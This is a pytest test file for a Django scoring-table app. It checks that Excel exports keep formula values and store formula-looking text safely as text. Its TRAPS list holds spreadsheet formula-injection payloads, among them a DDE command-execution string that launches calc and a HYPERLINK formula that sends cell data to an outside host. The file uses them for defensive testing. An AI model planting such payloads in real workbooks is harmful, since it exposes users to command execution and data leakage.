"""The scoring table's workbook as a clerk's phone, a mail viewer or openpyxl read it: every
formula carries its value, and every text we write — a criterion, a note a clerk imported —
comes back as that text, never as a formula."""

import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from scoring import excel, services
from scoring.models import ScoringTable

# Texts a spreadsheet would run as formulas if they were written as typed.
TRAPS = [
    "=1+1",
    "+A1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://example.invalid/?"&B5,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
]


def both_ways(data: bytes, sheet: str):
    """The sheet opened normally and with data_only=True (the values saved with formulas)."""
    return (
        load_workbook(io.BytesIO(data))[sheet],
        load_workbook(io.BytesIO(data), data_only=True)[sheet],
    )


def test_every_formula_of_the_table_carries_the_value_the_page_shows(demo_table):
    formulas, values = both_ways(excel.export_table(demo_table), excel.SHEET)
    tree = demo_table.tree()
    checked = 0
    for row in formulas.iter_rows(min_row=4):
        for cell in row:
            if cell.data_type == "f":
                value = values[cell.coordinate].value
                assert value is not None, f"{cell.coordinate} {cell.value} saved without value"
                checked += 1
    assert checked >= 15  # sections, criteria with parts and the three totals
    # Each criterion's row shows its max, formula or not, as the table page does.
    for index, node in enumerate(tree.rows):
        assert Decimal(str(values.cell(row=4 + index, column=5).value)) == (
            node.criterion.max_points
        )
    totals = {row[1]: row[4] for row in values.iter_rows(values_only=True) if row[1]}
    assert totals["Tổng điểm chuẩn"] == tree.totals["score"] == 100
    assert totals["Tổng điểm thưởng"] == tree.totals["bonus"] == 5
    assert totals["Tổng điểm trừ"] == tree.totals["deduction"] == 10
    assert str(formulas["E4"].value).startswith("=SUM(")  # still a formula for Excel


def test_texts_that_look_like_formulas_come_back_as_texts(demo_table):
    criteria = [node.criterion for node in demo_table.tree().rows][: len(TRAPS)]
    for criterion, trap in zip(criteria, TRAPS, strict=True):
        criterion.text = trap
        criterion.guidance = trap
        criterion.save()
    demo_table.title = "=1+1"
    demo_table.legal_bases = TRAPS[4]
    demo_table.save()
    demo_table.cluster_year.tier_bands = [{"name": "@SUM(A1)", "min_percent": "90"}]
    data = excel.export_table(demo_table)
    for sheet in both_ways(data, excel.SHEET):
        for line, trap in enumerate(TRAPS, start=4):
            for column in ("B", "C"):  # the content and the guidance
                cell = sheet[f"{column}{line}"]
                assert (cell.value, cell.data_type) == (trap, "s")
        assert sheet["A1"].value == "=1+1" and sheet["A1"].data_type == "s"
    for settings in both_ways(data, excel.SETTINGS_SHEET):
        values = {row[0].value: row[1] for row in settings.iter_rows(max_col=2)}
        assert (values["Tên bảng"].value, values["Tên bảng"].data_type) == ("=1+1", "s")
        assert (values["Căn cứ"].value, values["Căn cứ"].data_type) == (TRAPS[4], "s")
        assert values["Mức xếp loại"].value == "@SUM(A1): 90"
    # Excel keeps them texts when the cell is edited (the hidden quote prefix).
    sheet = load_workbook(io.BytesIO(data))[excel.SHEET]
    assert all(sheet[f"B{line}"].quotePrefix for line in range(4, 4 + len(TRAPS)))
    # And the workbook gives back the same texts.
    parsed = excel.parse_workbook(data)
    assert parsed.errors == []
    assert [r.text for r in parsed.rows[: len(TRAPS)]] == TRAPS
    assert [r.guidance for r in parsed.rows[: len(TRAPS)]] == TRAPS


def test_an_imported_note_is_exported_as_text(client_as, world):
    """A clerk's texts "=cmd|…" travel through the import page into the table and out again
    in every reader's export, as texts."""
    later = world.cluster.years.create(year=2025)
    later.memberships.create(unit=world.leader, role="leader")
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["TT", "Nội dung tiêu chí", "Điểm chuẩn", "Ghi chú"])
    sheet.append(["I.", "Phần", 100, None])
    for line, (trap, points) in enumerate(zip(TRAPS, (20, 20, 15, 15, 15, 15), strict=True), 3):
        sheet.append([str(line - 2), None, points, None])
        for column in (2, 4):
            cell = sheet.cell(row=line, column=column)
            cell.value = trap
            cell.data_type = "s"  # typed as a text by the clerk
    buffer = io.BytesIO()
    workbook.save(buffer)
    client = client_as("leader_clerk")
    url = reverse("scoring:table_import", args=[later.pk])
    preview = client.post(url, {"file": SimpleUploadedFile("bang.xlsx", buffer.getvalue())})
    assert preview.context["errors"] == []
    assert client.post(url, {"payload": preview.context["payload"]}).status_code == 302
    table = ScoringTable.objects.get(cluster_year=later)
    saved = [(node.criterion.text, node.criterion.guidance) for node in table.tree().rows[1:]]
    assert saved == [(trap, trap) for trap in TRAPS]
    exported = client.get(reverse("scoring:table_export", args=[later.pk]))
    for sheet in both_ways(exported.content, excel.SHEET):
        cells = list(sheet.iter_rows(min_row=5, max_row=4 + len(TRAPS), max_col=3))
        assert [(r[1].value, r[1].data_type) for r in cells] == [(t, "s") for t in TRAPS]
        assert [(r[2].value, r[2].data_type) for r in cells] == [(t, "s") for t in TRAPS]


@pytest.mark.parametrize("trap", TRAPS)
def test_a_trap_is_written_by_the_writer_as_text(trap):
    book = excel.writing.Book()
    sheet = book.sheet("x")
    book.text(sheet, 0, 0, trap)
    book.merged_text(sheet, (1, 0), (1, 2), trap)
    for opened in both_ways(book.close(), "x"):
        assert [(c.value, c.data_type) for c in (opened["A1"], opened["A2"])] == [(trap, "s")] * 2


def test_round_trip_of_a_table_with_group_codes(demo_table, world):
    """Roots coded A, B (a clerk's groups with items directly under them) come back as the
    same roots, not as one's title."""
    rows = [
        services.Row("A", "Nhóm A", "", "score", Decimal(60), Decimal("0.5"), False, None),
        services.Row("1", "Một", "", "score", Decimal(60), Decimal("0.5"), False, 0),
        services.Row("B", "Nhóm B", "", "score", Decimal(40), Decimal("0.5"), False, None),
        services.Row("1", "Một", "", "score", Decimal(40), Decimal("0.5"), False, 2),
    ]
    services.replace_criteria(demo_table, rows)
    parsed = excel.parse_workbook(excel.export_table(demo_table))
    assert parsed.errors == [] and parsed.rows == rows
